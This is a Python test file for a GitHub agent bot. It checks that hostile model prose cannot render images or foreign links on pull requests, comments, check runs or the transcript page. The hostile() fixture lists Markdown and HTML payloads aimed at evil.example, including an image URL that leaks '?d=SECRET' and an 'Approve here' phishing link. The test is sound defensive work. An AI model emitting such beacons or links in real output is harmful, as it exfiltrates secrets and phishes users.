"""Model prose on GitHub and on the transcript page: a hostile session's text (a scripted model through the
real job path to the fake GitHub) carries every way Markdown has to show an image or a link; what GitHub
would render (CommonMark, tables and GFM's bare-address autolinks) holds no image and no link but to the
repository itself, in the pull request body, the tracking comment, the check runs and the transcript page."""

from __future__ import annotations

import re
from html.parser import HTMLParser

from markdown_it import MarkdownIt

from bot.github.links import run_path
from bot.jobs.sqlite import Store
from bot.run.transcript import load_events
from tests.fakes.github_check_runs import decode_runs
from tests.support.github_job import NAME, OWNER, delivery, run, world  # noqa: F401 (fixture)
from tests.support.runs import add_run, web_app, write_run

EVIL = "evil.example"
HARNESS = ("https://ci.example/run/1",)  # the run link the harness itself puts in the tracking comment
BARE = re.compile(r"(?i)(?:(?:https?|ftp)://|www\.)[^\s<>]+")
_md = MarkdownIt("commonmark").enable(["table", "strikethrough"])


def hostile(home: str) -> str:
    return (
        "Done. ![x](https://evil.example/p.png?d=SECRET)\n\n"
        "[Approve here](https://evil.example/phish) or <https://evil.example/auto> or https://evil.example/bare "
        "or www.evil.example.\n\n"
        "![ref][1] and [click][2]\n\n[1]: https://evil.example/r.png\n[2]: https://evil.example/r\n\n"
        '<img src="https://evil.example/h.png"> <a href="https://evil.example/a">a</a>\n\n'
        "Use `x\n![split](https://evil.example/s.png)\nand `y\n\n"
        "[dest](https://evil.example/`tick`)\n\n"
        "| a | b |\n|---|---|\n| `c | ![cell](https://evil.example/c.png) | d` |\n\n"
        "\\`x ![escaped](https://evil.example/e.png) `\n\n"
        f"[![in a link](https://evil.example/i.png)]({home}/pulls)\n\n"
        f"See [the issue]({home}/issues/1), [up]({home}/../../evil/repo) and "
        "`![code](https://evil.example/code.png)`; mail evil@evil.example.\n\n"
        "```\n![fenced](https://evil.example/f.png)\n```\n")


def rendered(markdown: str) -> tuple[list[str], list[str]]:
    """(images, link targets) GitHub would render from `markdown`: images and raw HTML images, links
    (inline, reference, autolinks, raw HTML anchors) and bare addresses outside code."""
    images, links = [], []
    for token in _md.parse(markdown):
        if token.type == "html_block":
            images += re.findall(r"(?i)<img[^>]*>", token.content)
            links += re.findall(r'(?i)<a\s[^>]*href="?([^" >]+)', token.content)
        for child in token.children or []:
            if child.type == "image":
                images.append(str(child.attrs.get("src")))
            elif child.type == "link_open":
                links.append(str(child.attrs.get("href")))
            elif child.type == "html_inline":
                images += re.findall(r"(?i)<img[^>]*>", child.content)
                links += re.findall(r'(?i)<a\s[^>]*href="?([^" >]+)', child.content)
            elif child.type == "text":
                links += BARE.findall(child.content)
    return images, links


def attributes(html: str) -> list[str]:
    """Every href and src attribute's value in `html`."""
    found: list[str] = []

    class Collect(HTMLParser):
        def handle_starttag(self, tag, attrs):
            found.extend(str(value) for name, value in attrs if name in ("href", "src"))
    Collect().feed(html)
    return found


def assert_safe(markdown: str, home: str, where: str) -> None:
    images, links = rendered(markdown)
    assert images == [], (where, images)
    foreign = [url for url in links if not (url.startswith(home + "/") or url == home or url in HARNESS)]
    assert foreign == [], (where, foreign)


def test_a_hostile_summary_shows_no_image_and_links_only_to_the_repository(world, tmp_path):
    fake, anthropic, *_ = world
    home = f"{fake.web_url}/{OWNER}/{NAME}"
    text = hostile(home)
    number = fake.add_issue(OWNER, NAME, "Notes", "Write notes.", user="alice")
    anthropic.script([[{"type": "text", "text": text},
                       {"type": "tool_use", "name": "bash", "input": {"command": "echo x >> NOTES.md"}}],
                      [{"type": "text", "text": text}]])
    conclusion = run(world, "issues", delivery("issues", "labeled", issue__number=number, label__name="agent"))
    assert conclusion.state == "success", conclusion.message
    [pr] = fake.pulls(OWNER, NAME)
    [tracking] = fake.comments(OWNER, NAME, number)
    checks = decode_runs(fake, OWNER, NAME)
    assert checks
    for where, markdown in [("PR body", pr["body"]), ("tracking comment", tracking["body"]),
                            *((f"check run {c['id']}", f"{c['output']['summary']}\n\n{c['output']['text'] or ''}")
                              for c in checks)]:
        assert_safe(markdown, home, where)
    _, links = rendered(pr["body"])
    assert f"{home}/issues/1" in links and f"{home}/pulls" in links  # the repository's own links stay links
    assert "`https://evil.example/phish`" in pr["body"]  # a foreign target is shown, as code
    assert "`![code](https://evil.example/code.png)`" in pr["body"]  # code is kept as written
    assert "```\n![fenced](https://evil.example/f.png)\n```" in pr["body"]

    store = Store(tmp_path / "web" / "jobs.sqlite3")
    try:
        app = web_app(tmp_path / "web", store)
        client = app.test_client()
        run_id = add_run(client, store, repo=f"{OWNER}/{NAME}", number=number, state="done")
        write_run(tmp_path / "web", run_id, load_events(conclusion.ran.transcript_jsonl))
        page = client.get(run_path(app.extensions["decode"].settings.store, run_id)).get_data(as_text=True)
    finally:
        store.close()
    assert "Approve here" in page and "<img" not in page
    targets = attributes(page)
    assert not [t for t in targets if EVIL in t], targets
    assert f"{home}/issues/1" in targets
